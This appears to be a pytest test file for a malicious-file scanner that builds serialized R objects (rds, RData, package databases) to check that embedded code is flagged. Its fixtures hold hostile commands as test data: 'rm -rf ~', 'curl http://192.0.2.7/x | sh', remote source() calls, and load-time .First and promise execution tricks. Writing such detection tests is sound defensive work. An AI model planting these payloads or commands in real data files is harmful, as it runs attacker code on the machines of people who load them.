"""Serialized objects of R: promises, active bindings, start-up functions, code in functions; all encodings."""

import bz2
import gzip
import lzma
import struct
import zlib

import pytest
from format_files import PICKLE, assert_total, look
from hypothesis import given
from hypothesis import strategies as st
from model_files import judged, model, seen

from toadstone.core.fact import Call, Code, Setting
from toadstone.core.finding import Severity

NAMES = ("r.rds", "r.RData", "r_ascii.rds", "r_native.rds", "r_closure.rds")
NULL, UNBOUND, BASE = 254, 252, 241


def number(*values: int) -> bytes:
    return struct.pack(f">{len(values)}i", *values)


def characters(text: str) -> bytes:
    return number(0x40009, len(text.encode())) + text.encode()


def symbol(name: str) -> bytes:
    return number(1) + characters(name)


def string(*texts: str) -> bytes:
    return number(16, len(texts)) + b"".join(map(characters, texts))


def call(function: str | bytes, *arguments: bytes) -> bytes:
    head = symbol(function) if isinstance(function, str) else function
    return number(6) + head + b"".join(number(2) + argument for argument in arguments) + number(NULL)


def vector(*items: bytes) -> bytes:
    return number(19, len(items)) + b"".join(items)


def promise(expression: bytes, value: bytes = number(UNBOUND), environment: bytes = b"") -> bytes:
    return (number(0x405) + environment if environment else number(5)) + value + expression


def closure(body: bytes) -> bytes:
    return number(0x403) + number(BASE) + number(NULL) + body


def cells(*bindings: tuple[str, bytes], levels: int = 0) -> bytes:
    return b"".join(number(0x402 | levels << 12) + symbol(name) + value for name, value in bindings) + number(NULL)


def environment(frame: bytes, table: bytes = number(NULL)) -> bytes:
    return number(4, 0) + number(242) + frame + table + number(NULL)


def rds(item: bytes, version: int = 3) -> bytes:
    return b"X\n" + number(version, 0x40202, 0x30500) + (number(5) + b"UTF-8" if version == 3 else b"") + item


def workspace(*bindings: tuple[str, bytes]) -> bytes:
    return b"RDX3\n" + rds(cells(*bindings))


SYSTEM = call("system", string("echo toadstone"))


@pytest.mark.parametrize("name", NAMES)
def test_real_objects(name: str) -> None:
    found = seen(name)
    assert not found.unread
    assert not found.source.coverage.gaps()
    assert not judged(found)
    assert_total(model(name), name, flips=100)


@pytest.mark.parametrize("name", ["r_closure.rds", "r_native.rds", "r_ascii.rds"])
def test_a_cut_is_never_complete(name: str) -> None:
    data = model(name)
    assert all(look(data[:size], name).unread or look(data[:size], name).kind == "text" for size in range(20, len(data) - 2, 7))


@pytest.mark.parametrize("version", [2, 3])
def test_promises_that_a_file_brings(version: int) -> None:
    for data in (
        rds(promise(SYSTEM), version),
        gzip.compress(rds(vector(number(NULL), promise(SYSTEM)), version)),
        b"RDX%d\n" % version + rds(cells(("x", promise(SYSTEM))), version),
        rds(environment(cells(("x", promise(SYSTEM)))), version),
        rds(number(0x210, 1) + characters("x") + cells(("names", promise(SYSTEM))), version),
    ):
        assert judged(look(data, "m.rds"))["r-code"] is Severity.CRITICAL
    assert judged(look(rds(promise(symbol("x")), version), "m.rds"))["r-code"] is Severity.HIGH


def test_promises_that_r_itself_writes() -> None:
    lazy = promise(call("sum", string("x")), environment=number(BASE))
    done = promise(SYSTEM, value=string("x"))
    for data in (
        rds(environment(cells(("x", lazy)))),
        rds(environment(number(NULL), vector(cells(("x", lazy)), number(NULL)))),
        rds(environment(cells(("...", number(0x411) + symbol("a") + lazy + number(NULL))))),
        rds(environment(cells(("x", done)))),
    ):
        found = look(data, "m.rds")
        assert not found.unread
        assert not judged(found)
    acting = promise(SYSTEM, environment=number(BASE))
    assert judged(look(rds(environment(cells(("x", acting)))), "m.rds"))["r-code"] is Severity.HIGH


def test_functions_that_run_by_themselves() -> None:
    active = environment(cells(("x", closure(SYSTEM)), levels=1 << 15))
    assert judged(look(rds(active), "m.rds"))["r-code"] is Severity.HIGH
    assert judged(look(workspace((".First", closure(SYSTEM))), "a.RData"))["r-code"] is Severity.HIGH
    assert judged(look(workspace((".First", closure(symbol("x")))), "a.RData"))["r-code"] is Severity.MEDIUM
    assert not judged(look(workspace(("first", closure(symbol("x")))), "a.RData"))


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        (SYSTEM, Severity.HIGH),
        (call("{", call("<-", symbol("y"), call("system2", string("curl", "-O")))), Severity.HIGH),
        (call(call("::", symbol("processx"), symbol("run")), string("sh")), Severity.HIGH),
        (call("do.call", string("system"), string("rm -rf ~")), Severity.HIGH),
        (call("system", call("paste0", string("curl http://192.0.2.7/x "), string("| sh"))), Severity.HIGH),
        (call("system", symbol("command")), Severity.MEDIUM),
        (call("system", string("uname -a")), Severity.MEDIUM),
        (call("eval", call("parse", string("system('echo toadstone')"))), Severity.HIGH),
        (call("eval", call("parse", symbol("x"))), Severity.MEDIUM),
        (call("source", string("http://192.0.2.7/x.R")), Severity.HIGH),
        (call("download.file", string("http://192.0.2.7/x")), Severity.MEDIUM),
        (call("eval", symbol("mf"), call("parent.frame")), None),
        (call("library", string("stats")), None),
        (call("predict", symbol("model")), None),
    ],
)
def test_what_functions_do(body: bytes, severity: Severity | None) -> None:
    for data in (rds(closure(body)), rds(vector(closure(body))), rds(environment(cells(("f", closure(body)))))):
        assert judged(look(data, "m.rds")).get("r-code") == severity


def test_bytecode_holds_the_source() -> None:
    arguments = number(2, NULL, 0) + string("echo toadstone") + number(0, NULL)
    shared = number(244, 0, 6, NULL, 0) + symbol("system") + arguments
    compiled = number(21, 1) + number(13, 1, 12) + number(2) + shared + number(243, 0)
    found = look(rds(closure(compiled)), "m.rds")
    assert not found.unread
    assert judged(found)["r-code"] is Severity.HIGH


def test_what_is_told_of_code() -> None:
    found = look(rds(promise(call("f", string("a"), symbol("b")))), "m.rds")
    assert [fact.summary for fact in found.of(Code)] == ['an unevaluated promise: <promise: f("a", b)>']
    found = look(rds(vector(SYSTEM)), "m.rds")
    assert not found.of(Call)  # a call inside a model is data
    assert [fact.args for fact in look(rds(SYSTEM), "m.rds").of(Call)] == [("echo toadstone",)]


def test_names_that_r_loads() -> None:
    spaces = number(249, 0, 2) + characters("mypackage") + characters("1.0")
    assert [fact.value for fact in look(rds(environment(cells(("x", spaces)))), "m.rds").of(Setting)] == ["mypackage"]


def test_every_type_of_value() -> None:
    values = [
        number(10, 2, 1, -(1 << 31)),
        number(13, 1, 7),
        number(14, 1) + bytes(8),
        number(14, -1, 0, 1) + bytes(8),
        number(15, 1) + bytes(16),
        number(24, 3) + b"abc",
        string("a"),
        number(16, 1, 9, -1),
        number(8, 3) + b"sum",
        number(22) + number(NULL) + number(NULL),
        number(23),
        number(0x219) + cells(("class", string("P"))),
        number(253),
        number(250),
        number(20, 1) + symbol("x"),
        number(247, 0, 1) + characters("p"),
        number(238) + cells(("", symbol("compact_intseq"))) + string("x") + number(NULL),
        number(0x1FF),
    ]
    found = look(rds(vector(symbol("first"), *values)), "m.rds")
    assert not found.unread
    assert not found.source.coverage.gaps()


@pytest.mark.parametrize(
    ("item", "kind"),
    [
        (number(14, -1, 1 << 30, 0), "resource-claim"),
        (number(14, -5), "resource-claim"),
        (number(9, -7), "resource-claim"),
        (number(255, 9), "index-bounds"),
        ((number(19, 1)) * 30_000, "depth-bomb"),
    ],
)
def test_numbers_that_lie(item: bytes, kind: str) -> None:
    found = look(rds(item), "m.rds")
    assert kind in found.anomalies
    assert found.unread


def test_what_stands_behind_or_inside() -> None:
    assert judged(look(rds(number(NULL)) + PICKLE, "m.rds"))["unsafe-import"] is Severity.CRITICAL
    raw = number(24, len(PICKLE)) + PICKLE
    assert judged(look(rds(vector(raw)), "m.rds"))["unsafe-import"] is Severity.CRITICAL
    assert not look(rds(number(NULL)) * 3, "m.rds").unread


def test_databases_of_packages() -> None:
    objects = [rds(string("text")), rds(closure(SYSTEM)), rds(number(NULL))]
    filters = [{"id": lzma.FILTER_LZMA2, "preset": 6}]
    packed = [zlib.compress(objects[0]), b"Z" + lzma.compress(objects[1], lzma.FORMAT_RAW, filters=filters), b"0" + objects[2]]
    data = b"".join(struct.pack(">I", len(item)) + small for item, small in zip(objects, packed, strict=True))
    found = look(data, "package.rdb")
    assert found.kind == "r-lazyload"
    assert not found.facts  # a package's functions are its own business
    assert not found.source.coverage.gaps()
    bound = rds(vector(promise(SYSTEM, environment=number(BASE))))
    assert not look(struct.pack(">I", len(bound)) + zlib.compress(bound), "package.rdb").facts
    evil = rds(promise(SYSTEM))
    small = struct.pack(">I", len(evil)) + b"2" + bz2.compress(evil)
    assert judged(look(data + small, "package.rdb"))["r-code"] is Severity.CRITICAL
    assert look(data + small[:-9], "package.rdb").unread
    assert look(b"REDIS0009" + bytes(90), "dump.rdb").kind != "r-lazyload"
    assert_total(data + small, "package.rdb", flips=60)


def test_text_that_begins_like_an_object() -> None:
    for text in (
        b"A\n3\nbottles of beer\n",
        b"X\nabc def ghi jkl mno",
        b"RDX2 is a format\n",
        b"B\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
    ):
        assert look(text, "notes.txt").kind in ("text", "unknown")


@given(st.binary(max_size=200))
def test_random_objects(data: bytes) -> None:
    look(rds(data), "m.rds")
    look(b"A\n3\n262658\n197888\n5\nUTF-8\n" + data, "m.rds")


@given(
    st.lists(st.sampled_from([1, 2, 3, 4, 5, 6, 9, 16, 19, 21, 22, 238, 244, 255, 254, 252, 0x402, 0x403, 0x405]), max_size=60)
)
def test_random_structures(numbers: list[int]) -> None:
    look(rds(number(*numbers)), "m.rds")


def test_long_vectors_of_strings_cost_little() -> None:
    assert not look(rds(number(16, 200_000) + characters("word") * 200_000), "m.rds").unread


def test_tags_that_are_no_symbols():
    """Found by fuzzing: a tag that is a list was looked up in a table of names."""
    from toadstone.readers.rdata.document import _hooks
    from toadstone.readers.rdata.items import LIST, Item

    assert not list(_hooks(Item(LIST, 0, [(Item(LIST, 0, []), Item(LIST, 0, []))])))
